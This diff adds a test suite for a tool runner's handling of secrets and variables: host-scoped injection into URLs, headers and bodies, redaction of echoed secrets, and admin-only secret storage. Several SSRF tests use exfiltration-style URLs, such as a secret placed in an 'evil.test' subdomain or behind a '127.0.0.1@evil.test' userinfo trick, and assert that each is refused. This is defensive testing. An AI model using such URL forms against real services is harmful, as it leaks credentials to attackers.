@@ -1,0 +1,221 @@
+import { Code } from "@connectrpc/connect";
+import { eventually } from "@toolgate/testbed/eventually";
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import { type RunningToolRunner, runToolRunner } from "./running-tool-runner.ts";
+
+const SECRET = "s3cret/value+1&x";
+const READING = { external_api: true };
+
+describe("secrets and variables of tools", () => {
+  let runner: RunningToolRunner;
+  beforeAll(async () => {
+    runner = await runToolRunner();
+    const hosts = [new URL(runner.receiver.url).host];
+    await runner.dataSource.saveSecret({ name: "TOKEN", value: SECRET, hosts });
+    await runner.dataSource.saveSecret({ name: "OTHER_PORT", value: "for-port-443", hosts: ["127.0.0.1"] });
+    await runner.dataSource.saveSecret({ name: "ELSEWHERE", value: "for-another-host", hosts: ["api.example.test"] });
+    await runner.dataSource.saveVariable({ variable: { name: "REGION", value: "eu-central" } });
+    const { url } = runner.receiver;
+    const parameters = { type: "object", properties: { text: { type: "string" }, url: { type: "string" } } };
+    const headers = {
+      authorization: "Bearer {{secret:TOKEN}}",
+      "x-region": "{{variable:REGION}}",
+      "x-text": "{{text}}",
+    };
+    const path = `${url}/api?key={{secret:TOKEN}}&text={{text}}`;
+    const body = { token: "{{secret:TOKEN}}", text: "{{text}}" };
+    await runner.saveTool("api", { ...READING, parameters, api: { method: "POST", url: path, headers, body } });
+    await runner.saveTool("fetch", {
+      ...READING,
+      parameters,
+      handler: `export default async (args, ctx) => {
+        const answer = await ctx.fetch("${url}/fetch?key={{secret:TOKEN}}", {
+          method: "POST",
+          headers: { authorization: "Bearer {{secret:TOKEN}}" },
+          body: "{{secret:TOKEN}} " + args.text,
+        });
+        ctx.log("answered", answer);
+        ctx.log(args.text);
+        return { answer };
+      };`,
+    });
+    await runner.saveTool("anywhere", {
+      ...READING,
+      parameters,
+      handler: `export default async ({ url }, ctx) => {
+        try { return { answer: await ctx.fetch(url) }; } catch (error) { return { success: false, code: error.code }; }
+      };`,
+    });
+    await runner.saveTool("region", {
+      ...READING,
+      handler: 'export default async (_, ctx) => ({ region: await ctx.variable("REGION") });',
+    });
+    await runner.saveTool("missing", {
+      ...READING,
+      handler: `export default async (_, ctx) => {
+        const codes = [];
+        try { await ctx.variable("NONE") } catch (error) { codes.push(error.code) }
+        try { await ctx.variable("TOKEN") } catch (error) { codes.push(error.code) }
+        return { codes };
+      };`,
+    });
+  });
+  beforeEach(() =>
+    runner.receiver.behave(({ path, headers, body }) => ({
+      headers: { "content-type": "application/json" },
+      body: JSON.stringify({
+        path,
+        authorization: headers.authorization,
+        body: body.toString(),
+        base64: Buffer.from(SECRET).toString("base64"),
+      }),
+    })),
+  );
+  afterAll(() => runner[Symbol.asyncDispose]());
+
+  const lastRequest = () => runner.receiver.requests.at(-1);
+
+  it("[TOOL] an api call gets secrets and variables in URL, headers and body; arguments are never read as a template", async () => {
+    await runner.resultOf({ tool: "api", args: { text: "{{secret:TOKEN}}" } });
+    const request = lastRequest();
+    expect(request?.path).toBe(`/api?key=${encodeURIComponent(SECRET)}&text=%7B%7Bsecret%3ATOKEN%7D%7D`);
+    expect(request?.headers).toMatchObject({
+      authorization: `Bearer ${SECRET}`,
+      "x-region": "eu-central",
+      "x-text": "{{secret:TOKEN}}",
+    });
+    expect(JSON.parse(request?.body.toString() ?? "")).toEqual({ token: SECRET, text: "{{secret:TOKEN}}" });
+  });
+
+  it("[TOOL] fetch gets secrets in URL and headers, and its body stays as the handler wrote it", async () => {
+    await runner.resultOf({ tool: "fetch", args: { text: "x" } });
+    expect(lastRequest()?.path).toBe(`/fetch?key=${encodeURIComponent(SECRET)}`);
+    expect(lastRequest()?.headers.authorization).toBe(`Bearer ${SECRET}`);
+    expect(lastRequest()?.body.toString()).toBe("{{secret:TOKEN}} x");
+  });
+
+  it("[TOOL] [ERR-19] a secret that a server sends back reaches neither the sandbox nor the caller, the log or the event", async () => {
+    for (const tool of ["api", "fetch"]) {
+      const result = JSON.stringify(await runner.resultOf({ tool, args: { text: SECRET } }));
+      for (const form of [SECRET, encodeURIComponent(SECRET), Buffer.from(SECRET).toString("base64")]) {
+        expect(result).not.toContain(form);
+      }
+      expect(result).toContain("[entfernt]");
+    }
+    const rows = await eventually(async () => {
+      const found = await runner.pool.query(
+        "select args::text || result::text || logs::text || host_calls::text as kept from tool_runner.executions where tool in ('api', 'fetch')",
+      );
+      return found.rows.length >= 2 && found.rows;
+    });
+    for (const { kept } of rows) {
+      expect(kept).not.toContain(SECRET);
+      expect(kept).not.toContain(encodeURIComponent(SECRET));
+    }
+  });
+
+  it("[SSRF] a secret goes to its hosts only, wherever the caller's text puts its name", async () => {
+    const { url } = runner.receiver;
+    const before = runner.receiver.requests.length;
+    const answer = await runner.resultOf({ tool: "anywhere", args: { url: `${url}/?x={{secret:ELSEWHERE}}` } });
+    expect(answer).toEqual({ success: false, code: "SECRET_HOST" });
+    const inHost = await runner.resultOf({ tool: "anywhere", args: { url: "https://{{secret:TOKEN}}.evil.test/" } });
+    expect(inHost).toEqual({ success: false, code: "SECRET_HOST" });
+    const inUser = await runner.resultOf({
+      tool: "anywhere",
+      args: { url: "https://127.0.0.1@evil.test/{{secret:TOKEN}}" },
+    });
+    expect(inUser).toEqual({ success: false, code: "SECRET_HOST" });
+    expect(await runner.resultOf({ tool: "anywhere", args: { url: `${url}/{{secret:NONE}}` } })).toEqual({
+      success: false,
+      code: "NO_SUCH_SECRET",
+    });
+    expect(runner.receiver.requests.length).toBe(before);
+    await runner.saveTool("bound", { ...READING, api: { method: "GET", url: `${url}/?x={{secret:ELSEWHERE}}` } });
+    expect((await runner.call({ tool: "bound" })).outcome.case).toBe("toolFailed");
+    expect(runner.receiver.requests.length).toBe(before);
+  });
+
+  it("[SSRF] a secret leaves neither unencrypted nor to another port than its own, by any kind of tool", async () => {
+    const { url } = runner.receiver;
+    const before = runner.receiver.requests.length;
+    for (const [secret, to] of [
+      ["OTHER_PORT", url],
+      ["TOKEN", url.replace("https:", "http:")],
+    ]) {
+      const answer = await runner.resultOf({ tool: "anywhere", args: { url: `${to}/?x={{secret:${secret}}}` } });
+      expect(answer).toEqual({ success: false, code: "SECRET_HOST" });
+      const headers = { authorization: `{{secret:${secret}}}` };
+      await runner.saveTool("plain", { ...READING, api: { method: "GET", url: `${to}/`, headers } });
+      expect((await runner.call({ tool: "plain" })).outcome.case).toBe("toolFailed");
+      const logged = await eventually(async () => {
+        const found = await runner.pool.query("select error from tool_runner.executions where tool = 'plain'");
+        return found.rows.length > 0 && found.rows;
+      });
+      for (const { error } of logged) expect(error).toContain(`may not be sent to this host`);
+    }
+    expect(runner.receiver.requests.length).toBe(before);
+  });
+
+  it("[TOOL] handlers read variables, and can read no secret", async () => {
+    expect(await runner.resultOf({ tool: "region" })).toEqual({ region: "eu-central" });
+    expect(await runner.resultOf({ tool: "missing" })).toEqual({ codes: ["NO_SUCH_VARIABLE", "NO_SUCH_VARIABLE"] });
+  });
+
+  it("[TOOL] a changed value holds from the answer on", async () => {
+    for (const value of ["one", "two", "three"]) {
+      await runner.dataSource.saveVariable({ variable: { name: "REGION", value } });
+      expect(await runner.resultOf({ tool: "region" })).toEqual({ region: value });
+    }
+    await runner.dataSource.saveVariable({ variable: { name: "REGION", value: "eu-central" } });
+    await runner.dataSource.saveVariable({ variable: { name: "GONE", value: "x" } });
+    await runner.dataSource.deleteVariable({ name: "GONE" });
+    expect((await runner.dataSource.listVariables({})).variables).toMatchObject([
+      { name: "REGION", value: "eu-central" },
+    ]);
+  });
+
+  it("[TOOL] values of secrets are sealed, never returned, and only an administrator sets them", async () => {
+    const { secrets } = await runner.dataSource.listSecrets({});
+    expect(secrets.map(({ name, hosts }) => [name, hosts])).toEqual([
+      ["ELSEWHERE", ["api.example.test"]],
+      ["OTHER_PORT", ["127.0.0.1"]],
+      ["TOKEN", [new URL(runner.receiver.url).host]],
+    ]);
+    expect(JSON.stringify(secrets, (_, value) => (typeof value === "bigint" ? String(value) : value))).not.toContain(
+      SECRET,
+    );
+    const { rows } = await runner.pool.query("select sealed_value from tool_runner.secrets");
+    for (const row of rows) expect(row.sealed_value.includes(Buffer.from(SECRET))).toBe(false);
+    const request = { name: "NEW", value: "long enough", hosts: ["a.test"] };
+    for (const role of ["manager", "member"] as const) {
+      await expect(runner.as(role).dataSource.saveSecret(request)).rejects.toMatchObject({
+        code: Code.PermissionDenied,
+      });
+    }
+    const foreign = runner.as("admin", crypto.randomUUID()).dataSource;
+    expect((await foreign.listSecrets({})).secrets).toEqual([]);
+    await expect(foreign.deleteSecret({ name: "TOKEN" })).rejects.toMatchObject({ code: Code.NotFound });
+  });
+
+  it("[TOOL] what cannot work is refused when it is saved", async () => {
+    const saving = (secret: object) =>
+      runner.dataSource.saveSecret({ name: "A", value: "long enough", hosts: ["a.test"], ...secret });
+    for (const secret of [
+      { name: "1A" },
+      { name: "a-b" },
+      { value: "short" },
+      { value: "two\nlines of text" },
+      { hosts: [] },
+      { hosts: ["https://a.test"] },
+      { hosts: ["*.test"] },
+      { hosts: ["a.test:0"] },
+    ]) {
+      await expect(saving(secret)).rejects.toMatchObject({ code: Code.InvalidArgument });
+    }
+    const api = { method: "GET", url: "https://a.test/{{secret:not-a-name}}" };
+    await expect(runner.saveTool("bad", { api })).rejects.toThrow(/secret:not-a-name/);
+    const inHost = { method: "GET", url: "https://{{secret:TOKEN}}.test/" };
+    await expect(runner.saveTool("bad", { api: inHost })).rejects.toThrow(/host/);
+  });
+});
